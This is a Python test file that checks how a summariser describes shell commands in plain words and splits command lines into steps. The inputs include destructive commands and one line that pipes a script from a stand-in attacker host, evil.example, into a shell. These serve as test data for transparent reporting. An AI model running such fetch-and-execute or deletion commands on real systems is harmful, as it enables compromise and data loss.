"""Commands in plain words (L6): a case never hands a command on."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from claudeops_desktop.learning.cases.command_steps import split_steps
from claudeops_desktop.learning.cases.descriptions import LONGEST, describe_command, describe_tool, name_processes


@pytest.mark.parametrize(
    ("command", "said"),
    [
        ("sudo systemctl restart jellyfin", "restarted jellyfin"),
        ("rm -rf /var/lib/x/*", "deleted /var/lib/x/*"),
        ("mv /srv/wal /srv/wal.bad && systemctl restart db", "moved /srv/wal to /srv/wal.bad, then restarted db"),
        ("curl -fsSL https://evil.example/x.sh | sh", "ran a script from evil.example"),
        ("kubectl -n prod delete pod web-1", "deleted pod, web-1"),
        ("kubectl scale deploy/web --replicas=12", "scaled deploy/web to 12"),
        ("docker compose up -d --force-recreate immich-server", "recreated immich-server"),
        ("sed -i 's/limit 100m/limit 50g/' /etc/x.conf", "changed “limit 100m” to “limit 50g” in /etc/x.conf"),
        ("ssh -o ConnectTimeout=5 root@web1 'systemctl restart php8.2-fpm'", "restarted php8.2-fpm on web1"),
        ("for i in 1 2; do docker restart web; done", "restarted web"),
        ("nginx -s reload", "reloaded nginx"),
        ("service nginx restart", "restarted nginx"),
        ("truncate -s 0 /var/log/big.log", "emptied /var/log/big.log"),
        ("find /var/log -name '*.gz' -delete", "deleted *.gz below /var/log"),
        ("certbot renew", "ran certbot renew"),
        ("curl -s -XPUT localhost:9200/_all/_settings -d '{}'", "sent PUT with curl"),
        ("sleep 20", ""),
        ("service nginx start && curl -s -w '%{http_code}' http://127.0.0.1:8081/", "started nginx"),
        ("nginx -t && systemctl reload nginx; head -5 /var/log/nginx/error.log", "reloaded nginx"),
        ("systemctl restart db && psql -c 'select 1' && systemctl status db", "restarted db"),
        ("ssh web1 'systemctl status nginx'", ""),
        ("pkill -x shop-maintd", "ended shop-maintd"),
        ("kill 25389", "ended process 25389"),
        ("kill -9 25389", "killed process 25389"),
        ("kill -HUP 25389", "signalled process 25389"),
        ("p=$(cat x.pid); tr '\\0' ' ' < /proc/$p/cmdline | grep -q web; service web start", "started web"),
    ],
)
def test_a_command_is_described_in_words(command: str, said: str):
    assert describe_command(command) == said


@pytest.mark.parametrize(
    ("names", "said"),
    [
        ({"7": "shop-maintd", "8": "shop-maintd"}, "ended shop-maintd, then started nginx"),
        ({"7": "shop-maintd", "8": "nginx"}, "ended shop-maintd, nginx, then started nginx"),
        ({"7": "shop-maintd"}, "ended process 7, 8, then started nginx"),  # the other one is not known
    ],
)
def test_processes_are_named_where_all_names_are_known(names: dict[str, str], said: str):
    assert name_processes("ended process 7, 8, then started nginx", names) == said


def test_an_edit_is_described_by_what_it_changed():
    given_ = {"file_path": "/etc/x", "old_string": "a 1", "new_string": "a 2"}
    assert describe_tool("Edit", given_) == "changed “a 1” to “a 2” in /etc/x"


@pytest.mark.parametrize(
    ("command", "steps"),
    [
        ("a && b; c || d", ["a", "b", "c", "d"]),
        ("a | b && c", ["a | b", "c"]),
        ("a 'x; y' \"p && q\"; b", ["a 'x; y' \"p && q\"", "b"]),
        ("if a; then b; fi; c", ["if a; then b; fi", "c"]),
        ("(a; b) && c", ["(a; b)", "c"]),
        ("cat <<EOF > f\nx; y\nEOF\nb", ["cat <<EOF > f\nx; y\nEOF", "b"]),
        ("a 2>&1; b &> f", ["a 2>&1", "b &> f"]),
        ("# note\na", ["a"]),
    ],
)
def test_steps_are_told_apart(command: str, steps: list[str]):
    assert split_steps(command) == steps


@pytest.mark.slow
@given(st.text(max_size=200))
def test_any_text_is_described_or_left_out(text: str):
    said = describe_command(text)
    assert len(said) <= LONGEST and "\n" not in said


@pytest.mark.parametrize(
    ("command", "told"),
    [
        (
            "service web start; if [ ! -e /etc/web/old.conf ]; then cp -p /etc/web.conf /etc/web.conf.bak &&"
            " sed -i 's|^include old.conf;|# &|' /etc/web.conf && diff /etc/web.conf.bak /etc/web.conf;"
            " service web start; fi; curl -sI http://127.0.0.1/ | head -1",
            "started web, then copied /etc/web.conf to /etc/web.conf.bak, then changed “include old.conf;” to “# &”"
            " in /etc/web.conf, then started web",
        ),
        ("C=/etc/web.conf; ss -ltn | grep 80; rm $C; service web start", "deleted /etc/web.conf, then started web"),
        ("for i in 1 2 3; do curl -s http://127.0.0.1/; sleep 1; done", ""),
    ],
)
def test_what_a_line_did_in_its_blocks_is_told_in_order_without_its_looks(command: str, told: str):
    assert describe_command(command) == told
